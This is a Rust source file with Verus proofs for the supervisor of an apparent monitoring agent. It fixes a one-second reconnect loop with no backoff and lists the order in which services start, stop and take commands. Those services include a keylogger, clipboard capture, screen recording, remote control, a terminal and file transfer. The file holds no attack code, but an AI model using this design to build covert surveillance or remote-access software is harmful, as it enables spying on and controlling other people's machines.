//! Keeping the agent running: the connection supervisor's decisions on each
//! tick, and the order in which the monitoring services start and stop.

use vstd::prelude::*;
use crate::client::SocketClient;

verus! {

/// Milliseconds between two supervisor ticks; failures never change it.
pub const TICK_MS: u64 = 1000;

/// What the supervisor does on a tick.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum SupervisorAction {
    /// Exit was requested: stop the services and disconnect.
    Shutdown,
    /// The connection is down: call `connect` again.
    Reconnect,
    /// All is well.
    Wait,
}

/// The supervisor's state: how many reconnects in a row have failed.
#[derive(Debug)]
pub struct Supervisor {
    pub consecutive_failures: u64,
}

impl Supervisor {
    pub fn new() -> (r: Supervisor)
        ensures
            r.consecutive_failures == 0,
    {
        Supervisor { consecutive_failures: 0 }
    }

    /// The wait before the next tick: always one second.
    pub fn tick_interval(&self) -> (r: u64)
        ensures
            r == tick_delay(*self),
    {
        TICK_MS
    }

    /// The decision of a tick: shut down on request, else reconnect whenever
    /// the connection is down, with no backoff and no limit.
    pub fn on_tick(&self, exit_requested: bool, connected: bool) -> (r: SupervisorAction)
        ensures
            r == tick_action(exit_requested, connected),
    {
        if exit_requested {
            SupervisorAction::Shutdown
        } else if !connected {
            SupervisorAction::Reconnect
        } else {
            SupervisorAction::Wait
        }
    }

    /// Counts the outcome of a reconnect.
    pub fn on_reconnect_result(&mut self, ok: bool)
        ensures
            ok ==> final(self).consecutive_failures == 0,
            !ok ==> final(self).consecutive_failures == if old(self).consecutive_failures < u64::MAX {
                (old(self).consecutive_failures + 1) as u64
            } else {
                old(self).consecutive_failures
            },
    {
        if ok {
            self.consecutive_failures = 0;
        } else {
            self.consecutive_failures = self.consecutive_failures.saturating_add(1);
        }
    }
}

pub open spec fn tick_action(exit_requested: bool, connected: bool) -> SupervisorAction {
    if exit_requested {
        SupervisorAction::Shutdown
    } else if !connected {
        SupervisorAction::Reconnect
    } else {
        SupervisorAction::Wait
    }
}

/// The wait before the tick after state `s`.
pub open spec fn tick_delay(s: Supervisor) -> u64 {
    TICK_MS
}

/// However many reconnects failed in a row, a tick that finds the connection
/// down asks for a reconnect, and the next tick comes one second later.
pub proof fn law_supervisor_retries(failures: u64)
    ensures
        tick_action(false, false) == SupervisorAction::Reconnect,
        tick_delay(Supervisor { consecutive_failures: failures }) == 1000,
{
}

/// The services that the agent runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum ServiceId {
    ScreenCapture,
    ActivityTracker,
    Keylogger,
    Clipboard,
    ProcessMonitor,
    RemoteControl,
    Terminal,
    FileTransfer,
    Commands,
    Blocking,
    SystemRestrictions,
    ScreenRecorder,
}

/// The monitoring services started on authentication, in order.
pub open spec fn monitoring_order() -> Seq<ServiceId> {
    seq![ServiceId::ScreenCapture, ServiceId::ActivityTracker, ServiceId::Keylogger, ServiceId::Clipboard,
        ServiceId::ProcessMonitor, ServiceId::Blocking]
}

/// The services stopped on shutdown, in order.
pub open spec fn shutdown_order() -> Seq<ServiceId> {
    seq![ServiceId::ScreenCapture, ServiceId::ActivityTracker, ServiceId::Keylogger, ServiceId::Clipboard,
        ServiceId::ProcessMonitor, ServiceId::Terminal, ServiceId::Blocking]
}

/// The services whose commands arrive through the shared command subscription.
pub open spec fn command_handlers() -> Seq<ServiceId> {
    seq![ServiceId::RemoteControl, ServiceId::Terminal, ServiceId::FileTransfer, ServiceId::Commands,
        ServiceId::Blocking, ServiceId::SystemRestrictions, ServiceId::ScreenRecorder]
}

/// State shared by the agent's components.
#[derive(Debug)]
pub struct AppState {
    pub socket: SocketClient,
    pub is_monitoring: bool,
}

impl AppState {
    pub fn new(socket: SocketClient) -> (r: AppState)
        ensures
            r.socket == socket,
            !r.is_monitoring,
    {
        AppState { socket, is_monitoring: false }
    }

    /// On authentication, the start to issue after `issued` starts have been
    /// issued, in order; once all have been issued, monitoring is marked on and
    /// there is none.
    pub fn next_start(&mut self, issued: usize) -> (r: Option<ServiceId>)
        ensures
            issued < monitoring_order().len() ==> r == Some(monitoring_order()[issued as int])
                && final(self).is_monitoring == old(self).is_monitoring,
            issued >= monitoring_order().len() ==> r is None && final(self).is_monitoring,
            final(self).socket == old(self).socket,
    {
        let order = vec![ServiceId::ScreenCapture, ServiceId::ActivityTracker, ServiceId::Keylogger, ServiceId::Clipboard,
            ServiceId::ProcessMonitor, ServiceId::Blocking];
        assert(order@ =~= monitoring_order());
        if issued < order.len() {
            Some(order[issued])
        } else {
            self.is_monitoring = true;
            None
        }
    }

    /// The services to stop on shutdown, in order; each is stopped even when an
    /// earlier one fails.
    pub fn shutdown_plan(&self) -> (r: Vec<ServiceId>)
        ensures
            r@ == shutdown_order(),
    {
        let r = vec![ServiceId::ScreenCapture, ServiceId::ActivityTracker, ServiceId::Keylogger, ServiceId::Clipboard,
            ServiceId::ProcessMonitor, ServiceId::Terminal, ServiceId::Blocking];
        assert(r@ =~= shutdown_order());
        r
    }

    /// The services that subscribe to commands, in registration order.
    pub fn handler_order(&self) -> (r: Vec<ServiceId>)
        ensures
            r@ == command_handlers(),
    {
        let r = vec![ServiceId::RemoteControl, ServiceId::Terminal, ServiceId::FileTransfer, ServiceId::Commands,
            ServiceId::Blocking, ServiceId::SystemRestrictions, ServiceId::ScreenRecorder];
        assert(r@ =~= command_handlers());
        r
    }
}

} // verus!
